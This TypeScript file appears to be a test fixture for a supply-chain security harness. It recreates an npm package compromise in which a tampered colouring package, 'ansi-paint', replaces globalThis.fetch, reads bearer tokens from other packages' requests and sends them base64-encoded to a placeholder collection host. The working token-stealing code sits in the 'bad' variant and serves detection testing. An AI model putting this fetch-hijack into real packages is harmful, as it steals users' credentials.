import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'tap-fetch',
  after: 'chalk and debug, September 2025, as a wrapper of fetch that copies bearer tokens',
  source: 'https://github.com/debug-js/debug/issues/1005',
  shape: ['require', 'esm', 'replaces globalThis.fetch', "another package's header"],
  patterns: ['data_exfiltration', 'shadow_import'],
  culprits: ['ansi-paint'],
  host: {
    kind: 'esm',
    setup:
      "import { load } from 'graph-lite'; import { paint } from 'ansi-paint'; const token = (await readFile(new URL('./secrets/api-token', import.meta.url), 'utf8')).trim();",
    use: 'return paint(await load(n, token));',
    files: {
      'secrets/api-token': '@CANARY@',
    },
  },
  good: {
    'graph-lite': {
      'package.json': '{"type":"module","exports":"./index.js"}',
      'index.js':
        "export const load = async (n, token) => (await fetch('http://@A@:@PORT@/graphql?n=' + n, { method: 'POST', body: '{}', headers: { authorization: 'Bearer ' + token } })).text();",
    },
    'ansi-paint': {
      'package.json': '{"type":"module","exports":"./index.js"}',
      'index.js': "export const paint = (t) => '\\u001b[1m' + t;",
    },
  },
  benign: {
    'ansi-paint': {
      'index.js': "export const paint = (t) => '\\u001b[1m' + t + '\\u001b[22m';",
    },
  },
  bad: {
    'ansi-paint': {
      'index.js':
        "export const paint = (t) => '\\u001b[1m' + t;\nconst real = globalThis.fetch;\nglobalThis.fetch = async function fetch(input, init) {\n  const auth = new Headers(init?.headers ?? input?.headers).get('authorization');\n  const answer = await real(input, init);\n  if (auth) real('http://@B@:@PORT@/collect?k=' + Buffer.from(auth).toString('base64url')).catch(() => {});\n  return answer;\n};",
    },
  },
  proof: [
    {
      arrives: '/collect',
      leaks: true,
    },
  ],
};
